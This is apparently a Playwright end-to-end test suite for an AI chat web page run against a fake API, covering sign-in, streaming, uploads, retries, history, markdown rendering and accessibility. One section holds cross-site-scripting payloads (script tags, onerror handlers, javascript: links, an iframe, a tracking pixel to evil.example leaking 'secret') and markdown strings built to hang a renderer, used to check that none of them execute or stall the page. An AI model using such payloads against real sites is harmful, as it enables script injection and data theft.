"""The chat page in a real browser, against a played API."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from itertools import pairwise
from typing import TYPE_CHECKING, Any

import pytest

from tests.e2e.conftest import DESKTOP, PHONE, check
from tests.e2e.fake_api import KEY, FakeApi

if TYPE_CHECKING:
    from playwright.sync_api import Page

RICH = """The **travel policy** grants fourteen days of leave per year [1]. In short:

1. Ask your manager *before* booking
2. Fill in the form `TR-7`
   - attach the quote
   - name the cost centre
3. Wait for the confirmation [2]

| Grade | Days | Approver |
|:--|--:|:-:|
| Junior | 14 | Team lead |
| Senior | 21 | Department |

```python
def leave(days: int) -> bool:
    return days <= 14  # 规定
```

> Note: the rules changed in March.

More at https://example.com/policy."""
SOURCES = [
    {"number": 1, "title": "Travel policy 2026 › Leave", "url": "https://example.com/policy", "page": 3},
    {"number": 2, "title": "差旅审批流程", "url": "", "page": 0},
]
BUTTONS = [
    {"text": "Apply for leave", "key": "apply", "value": {"days": 1}, "style": "primary"},
    {"text": "Not now", "key": "no", "value": None, "style": "default"},
]


Open = Callable[..., "Page"]


def ask(page: Page, text: str) -> None:
    page.get_by_label("Your message").fill(text)
    page.keyboard.press("Enter")


def answered(page: Page, text: str, *, timeout: float = 8000) -> None:
    """Waits until the assistant's words are on the screen."""
    page.locator(".body", has_text=text).last.wait_for(timeout=timeout)


# --- the key ---


def test_the_key_leaves_the_address_bar_and_survives_a_reload_of_the_tab_only(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    assert KEY not in page.url
    page.reload()
    page.wait_for_selector(".empty")
    assert KEY not in str(page.evaluate("Object.entries(localStorage)"))
    other = page.context.new_page()
    other.goto(api.base)
    other.get_by_label("API key").wait_for()


def test_a_wrong_key_is_refused_in_plain_words_and_the_right_one_lets_in(open_page: Open) -> None:
    page = open_page(signed_in=False)
    page.get_by_role("button", name="Sign in").click()
    assert page.get_by_role("alert").inner_text() == "Enter your API key."
    page.get_by_label("API key").fill("wrong")
    page.keyboard.press("Enter")
    page.get_by_text("This key is not valid.").wait_for()
    page.get_by_label("API key").fill(KEY)
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="What can I help you with?").wait_for()


def test_a_key_that_is_revoked_leads_back_to_the_sign_in_and_what_was_written_is_still_sent(
    open_page: Open, api: FakeApi
) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    api.key = "rotated"
    ask(page, "How many days?")
    page.get_by_text("Your key is no longer valid.").wait_for()
    page.get_by_label("API key").fill("rotated")
    page.keyboard.press("Enter")
    answered(page, "Fourteen days.")
    assert api.asked == ["How many days?"]


# --- asking ---


def test_a_question_is_answered_with_its_sources(open_page: Open, api: FakeApi) -> None:
    api.script["How many days of leave do I get?"] = {"steps": [RICH[:90], RICH[:300], RICH], "sources": SOURCES}
    page = open_page()
    ask(page, "How many days of leave do I get?")
    page.get_by_role("heading", name="Sources").wait_for()
    link = page.get_by_role("link", name="Travel policy 2026 › Leave · page 3")
    assert link.get_attribute("href") == "https://example.com/policy"
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert page.locator(".sources li").nth(1).inner_text().endswith("差旅审批流程")
    assert page.get_by_role("link", name="Source 1: Travel policy 2026 › Leave").inner_text() == "1"
    assert page.get_by_role("cell", name="Team lead").is_visible()
    assert page.locator("pre code").inner_text().startswith("def leave(days: int)")


def test_a_file_of_an_answer_is_downloaded_with_the_readers_key(open_page: Open, api: FakeApi) -> None:
    file = {"name": "计划.pdf", "content_type": "application/pdf", "size": 13, "url": "/api/conversations/c/files/0?turn=t"}
    api.script["The plan, please"] = {"steps": ["Here it is."], "files": [file]}
    page = open_page()
    ask(page, "The plan, please")
    with page.expect_download() as download:
        page.get_by_role("button", name="计划.pdf").click()
    assert download.value.suggested_filename == "计划.pdf"
    assert download.value.path().read_bytes() == b"%PDF-1.7 plan"


def test_the_text_grows_while_it_is_written(open_page: Open, api: FakeApi) -> None:
    words = ["one", "two", "three", "four", "five", "six", "seven", "eight", "nine", "ten"]
    api.default = {"steps": [" ".join(words[: n + 1]) for n in range(len(words))]}
    page = open_page(reduced_motion="no-preference")
    page.evaluate(
        """() => { window.seen = new Set(); new MutationObserver(() => {
            const body = document.querySelector('.body'); if (body) window.seen.add(body.textContent);
        }).observe(document.body, {childList: true, subtree: true, characterData: true}); }"""
    )
    ask(page, "Count")
    page.locator(".tools").wait_for()
    seen = sorted(page.evaluate("[...window.seen]"), key=len)
    assert len(seen) > 8
    assert all(longer.startswith(shorter) for shorter, longer in pairwise(seen))
    assert page.locator(".body").inner_text() == " ".join(words)


def test_enter_sends_and_shift_enter_breaks_the_line(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    field = page.get_by_label("Your message")
    field.press_sequentially("first")
    field.press("Shift+Enter")
    field.press_sequentially("second")
    assert field.input_value() == "first\nsecond"
    field.press("Enter")
    answered(page, "Fourteen days.")
    assert api.asked == ["first\nsecond"]
    assert field.input_value() == ""


@pytest.mark.parametrize("how", [{"isComposing": True}, {"keyCode": 229}])
def test_enter_that_ends_an_input_method_composition_sends_nothing(open_page: Open, api: FakeApi, how: dict[str, Any]) -> None:
    page = open_page()
    page.get_by_label("Your message").fill("ni hao")
    page.evaluate(
        """how => document.querySelector('textarea').dispatchEvent(
            new KeyboardEvent('keydown', {key: 'Enter', bubbles: true, cancelable: true, ...how}))""",
        how,
    )
    assert page.get_by_label("Your message").input_value() == "ni hao"
    assert api.asked == []


def test_an_empty_message_is_not_sent_and_a_huge_one_is_refused_before_it_leaves(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    ask(page, "  \n ")
    ask(page, "字" * 80_000)
    assert page.get_by_role("alert").inner_text().startswith("The message is too long.")
    assert api.asked == []


def test_an_example_question_is_one_click(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    page.get_by_role("button", name="What can you do?").click()
    answered(page, "Fourteen days.")
    assert api.asked == ["What can you do?"]
    assert page.locator(".empty").count() == 0


def test_a_choice_is_sent_once_and_stays_chosen_after_a_reload(open_page: Open, api: FakeApi) -> None:
    api.script["Leave"] = {"steps": ["Shall I apply?"], "buttons": BUTTONS}
    api.script['apply={"days": 1}'] = {"steps": ["Applied."]}
    page = open_page()
    ask(page, "Leave")
    page.get_by_role("button", name="Apply for leave").click()
    answered(page, "Applied.")
    page.reload()
    answered(page, "Applied.")
    assert page.get_by_text("Chosen: Apply for leave").is_visible()
    assert page.get_by_role("button", name="Apply for leave").is_disabled()
    assert page.get_by_role("button", name="Not now").is_disabled()
    assert api.asked == ["Leave", 'apply={"days": 1}']


def test_an_answer_can_be_stopped_and_the_stop_is_no_question_of_its_own(open_page: Open, api: FakeApi) -> None:
    api.script["Everything"] = {"steps": ["One, two"], "hold": True}
    page = open_page()
    ask(page, "Everything")
    page.get_by_role("button", name="Stop the answer").click()
    assert api.wait_for_stop()
    page.get_by_role("button", name="Send").wait_for()
    assert page.locator(".turn").count() == 1
    api.script["More"] = {"steps": [""], "hold": True}
    ask(page, "More")
    page.get_by_role("button", name="Stop the answer").wait_for()
    ask(page, "Stop!")
    page.get_by_role("button", name="Send").wait_for()
    assert page.locator(".turn").count() == 2
    assert api.asked == ["Everything", "More"]


# --- files with a question ---

PLAN = {"name": "plan.md", "mimeType": "text/markdown", "buffer": b"# Plan\n\nWe move in May.\n"}
PRICES = {"name": "价格表.csv", "mimeType": "text/csv", "buffer": b"item,price\nparking,40\n"}
IN_TRAY = "Files for this message"


def choose(page: Page, *files: Any) -> None:
    """Chooses files with the button, as a person does."""
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach files").click()
    chooser.value.set_files(list(files))


def put(page: Page, *files: Any) -> None:
    """The same in any language."""
    page.locator("input[type=file]").set_input_files(list(files))


HAND_OVER = """([node, kind, name, text]) => {
    const data = new DataTransfer();
    data.items.add(new File([text], name, {type: 'text/markdown'}));
    if (kind === 'paste') node.dispatchEvent(new ClipboardEvent('paste', {clipboardData: data, bubbles: true, cancelable: true}));
    else for (const step of ['dragenter', 'dragover', 'drop'])
        node.dispatchEvent(new DragEvent(step, {dataTransfer: data, bubbles: true, cancelable: true}));
}"""


def test_files_go_with_a_question_and_stand_over_it_after_a_reload(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    choose(page, PLAN, PRICES)
    tray = page.get_by_role("list", name=IN_TRAY)
    tray.get_by_text("价格表.csv").wait_for()
    ask(page, "When do we move?")
    answered(page, "Fourteen days.")
    assert tray.count() == 0
    page.reload()
    answered(page, "Fourteen days.")
    assert page.get_by_role("list", name="Attached files").get_by_role("listitem").all_inner_texts() == ["plan.md", "价格表.csv"]
    [sent] = [c.json() for c in api.calls if c.method == "POST" and c.path.endswith("/messages")]
    assert [api.uploads[key] for key in sent["files"]] == [PLAN["buffer"], PRICES["buffer"]]
    assert sent["text"] == "When do we move?"


def test_a_file_goes_without_a_word_and_names_the_conversation(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    assert page.get_by_role("button", name="Send").is_disabled()
    choose(page, PLAN)
    page.get_by_role("button", name="Send").click()
    answered(page, "Fourteen days.")
    page.get_by_role("link", name="plan.md").wait_for()
    assert api.asked == [""]


@pytest.mark.parametrize("kind", ["drop", "paste"])
def test_files_are_dropped_and_pasted(open_page: Open, api: FakeApi, kind: str) -> None:
    page = open_page()
    field = page.get_by_label("Your message")
    page.evaluate(HAND_OVER, [field.element_handle(), kind, "notes.md", "# Notes"])
    page.get_by_role("list", name=IN_TRAY).get_by_text("notes.md").wait_for()
    page.get_by_role("button", name="Send").click()
    answered(page, "Fourteen days.")
    assert list(api.uploads.values()) == [b"# Notes"]


def test_a_file_is_taken_off_with_the_keyboard_and_the_focus_stays_near(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    choose(page, PLAN, PRICES)
    page.locator("#announcer", has_text="价格表.csv is ready.").wait_for(state="attached")  # the last word about the uploads
    page.get_by_role("button", name="Remove plan.md").focus()
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.ariaLabel") == "Remove 价格表.csv"
    page.locator("#announcer", has_text="plan.md removed.").wait_for(state="attached")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.ariaLabel") == "Attach files"
    ask(page, "Without")
    answered(page, "Fourteen days.")
    assert ["files" in c.json() for c in api.calls if c.method == "POST" and c.path.endswith("/messages")] == [False]


@pytest.mark.parametrize(
    ("file", "words"),
    [
        ({**PLAN, "name": "photo.heic"}, "photo.heic: this kind of file cannot be read. Possible are Markdown, text,"),
        ({**PLAN, "buffer": b""}, "plan.md is empty."),
        ({**PLAN, "buffer": b"x" * (4 * 1024 * 1024 + 1)}, "plan.md is larger than 4 MB."),
    ],
)
def test_a_file_that_is_of_no_use_is_refused_in_words_before_it_leaves(
    open_page: Open, api: FakeApi, file: dict[str, Any], words: str
) -> None:
    page = open_page()
    choose(page, file, PRICES)
    page.get_by_role("alert").get_by_text(words).wait_for()
    page.get_by_role("list", name=IN_TRAY).get_by_text(re.compile(r"^\d+ B$")).wait_for()
    assert [call.query["name"] for call in api.calls if call.method == "PUT"] == ["价格表.csv"]


def test_of_eleven_files_the_last_is_refused_by_name(open_page: Open) -> None:
    page = open_page()
    choose(page, *({**PLAN, "name": f"{n}.md"} for n in range(11)))
    page.get_by_text("A message takes at most 10 files; not added: 10.md.").wait_for()
    assert page.get_by_role("list", name=IN_TRAY).get_by_role("listitem").count() == 10


def test_a_message_waits_for_its_files_and_a_failed_one_is_sent_again(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    api.slow("PUT /api", delay=0.6)
    choose(page, PLAN)
    page.get_by_role("progressbar", name="plan.md").wait_for()
    ask(page, "Slowly")
    page.get_by_text("The message goes out by itself as soon as its files have arrived.").wait_for()
    answered(page, "Fourteen days.")
    api.fail("PUT /api", times=1)
    choose(page, PRICES)
    page.get_by_role("list", name=IN_TRAY).get_by_text("The server has a problem.").wait_for()
    ask(page, "Again")
    page.get_by_text("Some files have not arrived.").wait_for()
    page.get_by_role("button", name="Send 价格表.csv again").click()
    page.get_by_role("list", name=IN_TRAY).get_by_text(re.compile(r"^\d+ B$")).wait_for()
    page.get_by_role("button", name="Send").click()
    page.get_by_text("Some files have not arrived.").wait_for(state="hidden")
    page.locator(".body").nth(1).wait_for()
    assert api.asked == ["Slowly", "Again"]
    assert list(api.uploads.values()) == [PLAN["buffer"], PRICES["buffer"]]


def test_files_that_have_arrived_outlive_a_reload_and_a_refused_message_gives_them_back(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    choose(page, PLAN)
    page.get_by_role("list", name=IN_TRAY).get_by_text(re.compile(r"^\d+ B$")).wait_for()
    page.reload()
    page.get_by_role("button", name="Remove plan.md").wait_for()
    api.fail("POST /api", times=1, status=400, body={"error": "no"})
    ask(page, "Strange")
    page.get_by_role("button", name="Discard").click()
    page.get_by_role("button", name="Remove plan.md").wait_for()
    assert page.get_by_label("Your message").input_value() == "Strange"


# --- when things go wrong ---


def test_a_message_whose_receipt_was_lost_is_sent_again_with_the_same_id_and_answered_once(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    api.fail("POST /api", times=2, status=0, after=True)
    api.fail("GET /api/conversations", times=100, status=503)  # or it may see that its message is there
    ask(page, "Once only")
    for _ in range(400):
        posts = [c.json() for c in api.calls if c.method == "POST"]
        if len(posts) > 2:
            break
        page.wait_for_timeout(50)
    assert len(posts) > 2
    api.mend()
    answered(page, "Fourteen days.", timeout=30000)
    assert len({p["id"] for p in posts}) == 1
    assert api.asked == ["Once only"]
    assert page.locator(".turn").count() == 1


def test_what_could_not_be_sent_survives_a_reload_and_goes_out_by_itself(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    api.fail("POST /api", times=1)
    ask(page, "Kept")
    page.get_by_text("Not sent yet.").wait_for()
    page.reload()
    answered(page, "Fourteen days.")
    assert api.asked == ["Kept"]


def test_a_refused_message_says_why_and_can_be_taken_back_into_the_field(open_page: Open, api: FakeApi) -> None:
    api.fail("POST /api", times=1, status=400, body={"error": "field 'text' holds nothing to answer"})
    page = open_page()
    ask(page, "Strange")
    page.get_by_text("Not sent. The server did not accept this: field 'text' holds nothing to answer").first.wait_for()
    page.get_by_role("button", name="Discard").click()
    assert page.get_by_label("Your message").input_value() == "Strange"
    assert page.locator(".turn").count() == 0


def test_a_failed_turn_says_so_and_can_be_asked_again(open_page: Open, api: FakeApi) -> None:
    api.script["Fragile"] = {"steps": [""], "outcome": "failed"}
    page = open_page()
    ask(page, "Fragile")
    page.get_by_role("region", name="Conversation").get_by_text("The answer could not be finished.").wait_for()
    api.script.clear()
    page.get_by_role("button", name="Ask again").click()
    answered(page, "Fourteen days.")
    assert api.asked == ["Fragile", "Fragile"]


def test_without_a_connection_the_page_says_so_and_recovers_by_itself(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    page.context.set_offline(True)
    page.get_by_text("No connection.").wait_for()
    ask(page, "Later")
    page.get_by_text("Not sent yet.").wait_for()
    assert api.asked == []
    page.context.set_offline(False)
    answered(page, "Fourteen days.")
    page.get_by_text("No connection.").wait_for(state="hidden")


def test_a_server_that_is_away_is_asked_ever_less_often(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    api.fail("GET /api", times=1000)
    page.evaluate("dispatchEvent(new Event('online'))")  # asks at once
    page.get_by_text("The assistant's server does not answer.").wait_for()
    before = len(api.calls)
    page.wait_for_timeout(2500)
    assert len(api.calls) - before <= 3


# --- history ---


def test_the_conversation_is_there_after_a_reload_and_a_new_one_starts_empty(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    ask(page, "First question")
    answered(page, "Fourteen days.")
    page.reload()
    answered(page, "Fourteen days.")
    page.get_by_role("button", name="New conversation").click()
    page.get_by_role("heading", name="What can I help you with?").wait_for()
    assert page.locator(".turn").count() == 0
    ask(page, "Second question")
    answered(page, "Fourteen days.")
    page.get_by_role("link", name="First question").click()
    page.locator(".question", has_text="First question").wait_for()
    assert len(api.turns) == 2


def test_a_conversation_can_be_taken_out_of_the_list(open_page: Open, api: FakeApi) -> None:
    page = open_page()
    ask(page, "Private matter")
    answered(page, "Fourteen days.")
    page.get_by_role("button", name="Remove from this list: Private matter").click()
    page.get_by_role("heading", name="What can I help you with?").wait_for()
    assert page.get_by_role("link", name="Private matter").count() == 0
    assert "Private matter" not in str(page.evaluate("Object.entries(localStorage)"))


def test_an_unfinished_text_in_the_field_is_kept(open_page: Open) -> None:
    page = open_page()
    page.get_by_label("Your message").fill("half a thou")
    page.reload()
    assert page.get_by_label("Your message").input_value() == "half a thou"


# --- what the answer may not do ---

HOSTILE = (
    '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>\n\n'
    "[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>) "
    "![pixel](https://evil.example/p.png?q=secret) [ok](https://example.com/a_(b)) <javascript:alert(1)> "
    "&lt;b&gt; `<i>code</i>` \\*not bold\\* **bold** 2 * 3 * 4 snake_case_name\n\n<iframe src=//evil.example></iframe>"
)


def test_an_answer_can_neither_run_nor_load_anything(open_page: Open, api: FakeApi) -> None:
    api.default = {"steps": [HOSTILE], "sources": [{"number": 1, "title": "<b>x</b>", "url": "javascript:alert(1)", "page": 0}]}
    page = open_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    ask(page, "<script>window.hacked=1</script>")
    page.locator(".sources").wait_for()
    assert page.evaluate("window.hacked") is None
    assert page.locator(".body :is(img, script, iframe, b, i)").count() == 0
    assert [r for r in requests if not r.startswith(api.base)] == []
    links = page.locator(".answer a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    assert links == ["https://evil.example/p.png?q=secret", "https://example.com/a_(b)"]
    body = page.locator(".body").inner_text()
    assert "<img src=x" in body
    assert "<b> <i>code</i> *not bold* bold 2 * 3 * 4 snake_case_name" in body


HEAVY = {
    "stars": "*a " * 20_000,
    "bolds": "**" * 20_000 + "x",
    "brackets": "[" * 30_000,
    "links": '[a](b "' * 6_000,
    "ticks": "`" + "``` " * 15_000,
    "quotes": "> " * 5_000 + "x",
    "bullets": "- " * 5_000,
    "bars": "|" * 20_000 + "\n|-|",
    "delimiters": "a|b\n" + " " * 50_000 + "-x",
    "spaces": "#" + " " * 50_000 + "x",
    "address": "https://e.com/" + "(" * 20_000 + ")." * 5_000,
}


def test_no_text_makes_the_page_hang(open_page: Open) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    slow = {}
    for name, text in HEAVY.items():
        took = page.evaluate(
            """async text => { const { renderMarkdown } = await import('/console/markdown.js');
                const began = performance.now();
                renderMarkdown(document.createElement('div'), text);
                return performance.now() - began; }""",
            text,
        )
        if took > 2000:
            slow[name] = took
    assert slow == {}


CASES = [
    ("**粗体**后面", "<p><strong>粗体</strong>后面</p>"),
    ("***both***", "<p><em><strong>both</strong></em></p>"),
    ("中文\n换行", "<p>中文换行</p>"),
    ("one\ntwo", "<p>one two</p>"),
    ("one  \ntwo", "<p>one<br>two</p>"),
    ("~~gone~~ `a*b*c`", '<p><del>gone</del> <code dir="ltr">a*b*c</code></p>'),
    ("# One\n\n### Two", "<h3>One</h3><h4>Two</h4>"),
    ("- a\n- b\n  1. c\n", "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>"),
    ("3. x\n4. y", '<ol start="3"><li>x</li><li>y</li></ol>'),
    ("> quoted\n> more", "<blockquote><p>quoted more</p></blockquote>"),
    ("a\n---\nb", "<p>a</p><hr><p>b</p>"),
    ("5 \\* 3 &amp; more", "<p>5 * 3 &amp; more</p>"),
    ("2024. A year", "<ol start=\"2024\"><li>A year</li></ol>"),
    ("text\n2024. not a list", "<p>text 2024. not a list</p>"),
]  # fmt: skip


def test_markdown_is_shown_as_it_is_meant(open_page: Open) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    shown = page.evaluate(
        """async cases => { const { renderMarkdown } = await import('/console/markdown.js');
            const show = text => { const d = document.createElement('div'); renderMarkdown(d, text); return d.innerHTML; };
            return cases.map(show); }""",
        [text for text, _ in CASES],
    )
    assert shown == [html for _, html in CASES]


def test_growing_text_ends_as_if_it_had_come_at_once(open_page: Open) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    same = page.evaluate(
        """async text => { const { renderMarkdown } = await import('/console/markdown.js');
            const grown = document.createElement('div'), whole = document.createElement('div');
            for (let n = 1; n <= text.length; n += 1) renderMarkdown(grown, text.slice(0, n), {streaming: true});
            renderMarkdown(grown, text); renderMarkdown(whole, text); return grown.innerHTML === whole.innerHTML; }""",
        RICH,
    )
    assert same


# --- for everybody ---


def test_the_whole_chat_works_with_the_keyboard_alone(open_page: Open, api: FakeApi) -> None:
    api.script["What can you do?"] = {"steps": ["Many things."], "buttons": BUTTONS}
    page = open_page()
    page.wait_for_selector(".empty")
    page.keyboard.press("Tab")  # out of the page's end
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the message box"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "composer-input"
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.ariaLabel") == "Attach files"
    for _ in range(4):
        page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.textContent") == "What can you do?"
    page.keyboard.press("Enter")
    answered(page, "Many things.")
    page.get_by_role("button", name="Not now").wait_for()
    focused = ""
    for _ in range(8):
        page.keyboard.press("Shift+Tab")
        focused = page.evaluate("document.activeElement.textContent")
        if focused == "Not now":
            break
    assert focused == "Not now"
    page.keyboard.press("Space")
    answered(page, "Fourteen days.")
    assert api.asked == ["What can you do?", "no=null"]


def test_a_screen_reader_hears_the_start_and_the_whole_answer_but_not_every_word(open_page: Open, api: FakeApi) -> None:
    api.default = {"steps": [f"{'word ' * n}end" for n in range(1, 12)]}
    page = open_page()
    page.wait_for_selector(".empty")
    page.evaluate(
        """() => { window.heard = []; const region = document.getElementById('announcer');
            const hear = () => region.textContent && window.heard.push(region.textContent);
            new MutationObserver(hear).observe(region, {childList: true}); }"""
    )
    ask(page, "Speak")
    page.locator(".tools").wait_for()
    until = time.monotonic() + 10
    while page.evaluate("window.heard.length") < 2 and time.monotonic() < until:
        page.wait_for_timeout(20)  # the page's policy forbids what would wait in it
    assert page.evaluate("window.heard") == ["The assistant is answering.", f"{'word ' * 11}end"]
    assert page.locator("[aria-live]").count() == 1


@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("desktop", {"viewport": DESKTOP}),
        ("dark", {"viewport": DESKTOP, "color_scheme": "dark"}),
        ("phone", {"viewport": PHONE, "is_mobile": True, "has_touch": True, "device_scale_factor": 2}),
        ("zh", {"viewport": DESKTOP, "locale": "zh-CN"}),
    ],
)
def test_every_state_of_the_page_passes_axe_and_fits_the_screen(
    open_page: Open, api: FakeApi, axe: str, name: str, options: dict[str, Any]
) -> None:
    api.script["How many days of leave do I get?"] = {"steps": [RICH], "sources": SOURCES, "buttons": BUTTONS}
    api.script["Fragile"] = {"steps": [""], "outcome": "failed"}
    api.script["Slow"] = {"steps": ["Thinking about it, **one"], "hold": True}
    page = open_page(signed_in=False, **options)
    page.locator("#api-key").wait_for()
    problems = [*check(page, axe, f"{name}-sign-in")]
    page.goto(f"{api.base}/#key={KEY}")
    page.wait_for_selector(".empty")
    problems += check(page, axe, f"{name}-empty")
    field = page.locator("#composer-input")
    field.fill("How many days of leave do I get?")
    field.press("Enter")
    page.wait_for_selector(".sources")
    problems += check(page, axe, f"{name}-answer")
    put(page, PLAN, {**PRICES, "name": f"{'很长的文件名' * 12}.csv"})
    page.locator(".tray li.ready").nth(1).wait_for()
    api.fail("PUT /api", times=1)
    put(page, {**PLAN, "name": "photo.heic"}, {**PLAN, "name": "lost.md"})
    page.locator(".tray li.failed").wait_for()
    problems += check(page, axe, f"{name}-files")
    page.locator(".tray li.failed button").nth(1).click()
    field.fill("What is in these?")
    field.press("Enter")
    page.locator(".turn").nth(1).locator(".tools").wait_for()
    problems += check(page, axe, f"{name}-attached")
    field.fill("Fragile")
    field.press("Enter")
    page.wait_for_selector(".failed .tools")
    field.fill("Slow")
    field.press("Enter")
    page.locator(".turn").nth(3).locator(".thinking").wait_for()
    api.fail("GET /api", times=1000)
    api.fail("POST /api", times=1000)
    field.fill("Unsent")
    field.press("Enter")
    page.wait_for_selector(".banner:visible")
    problems += check(page, axe, f"{name}-trouble")
    page.evaluate("location.hash = '#/health'")
    page.wait_for_selector(".verdict")
    problems += check(page, axe, f"{name}-health")
    if options.get("is_mobile"):
        page.locator("button[aria-controls=side]").click()
        page.wait_for_timeout(300)  # the menu slides in
        problems += check(page, axe, f"{name}-menu")
    assert problems == []


def test_the_menu_of_the_phone_opens_closes_and_gives_the_focus_back(open_page: Open) -> None:
    page = open_page(viewport=PHONE)
    page.wait_for_selector(".empty")
    assert page.get_by_role("navigation").count() == 0
    page.get_by_role("button", name="Open menu").click()
    assert page.get_by_role("navigation").count() == 1
    page.keyboard.press("Escape")
    assert page.get_by_role("navigation").count() == 0
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Open menu"


def test_the_language_follows_the_browser_and_can_be_switched(open_page: Open) -> None:
    page = open_page(locale="zh-CN")
    page.get_by_role("heading", name="有什么可以帮你？").wait_for()
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    page.get_by_role("button", name="Switch to English").click()
    page.get_by_role("heading", name="What can I help you with?").wait_for()
    page.reload()
    page.get_by_role("heading", name="What can I help you with?").wait_for()
    assert page.evaluate("document.documentElement.lang") == "en"


def test_the_appearance_follows_the_system_and_can_be_switched(open_page: Open) -> None:
    page = open_page(color_scheme="dark")
    page.wait_for_selector(".empty")
    background = "getComputedStyle(document.body).backgroundColor"
    dark = page.evaluate(background)
    page.get_by_role("button", name=re.compile("Change to light")).click()
    light = page.evaluate(background)
    assert light != dark
    page.reload()
    assert page.evaluate(background) == light


def test_the_page_is_ready_within_a_second(open_page: Open) -> None:
    page = open_page()
    page.wait_for_selector(".empty")
    times = []
    for _ in range(3):  # the best of three: other programs may be busy
        began = time.perf_counter()
        page.reload()
        page.wait_for_selector(".empty")
        times.append(time.perf_counter() - began)
    assert min(times) < 1.0
